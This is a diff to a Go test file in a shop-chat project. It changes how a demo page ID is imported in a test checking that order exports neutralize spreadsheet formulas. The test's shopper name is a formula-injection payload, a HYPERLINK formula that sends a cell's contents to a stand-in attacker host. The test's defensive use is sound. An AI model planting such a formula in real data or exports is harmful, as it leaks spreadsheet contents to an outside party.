@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/chatshop/chatshop/demo"
 	"github.com/chatshop/chatshop/models"
 	"github.com/chatshop/chatshop/money"
 )
@@ -123,7 +124,7 @@ func TestOrdersExportNeutralizesFormulas(t *testing.T) {
 	owner := ts.browser(t)
 	owner.signIn("demo@chatshop.test", "demo-password")
 	name := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
-	body, _ := json.Marshal(map[string]string{"page_id": models.DemoPageID, "name": name, "locale": "en_US"})
+	body, _ := json.Marshal(map[string]string{"page_id": demo.PageID, "name": name, "locale": "en_US"})
 	var shopper struct{ PSID string }
 	if status := ts.sandboxJSON(t, http.MethodPost, "/sandbox/messenger/api/shoppers", string(body), &shopper); status != http.StatusCreated {
 		t.Fatalf("create shopper: %d", status)
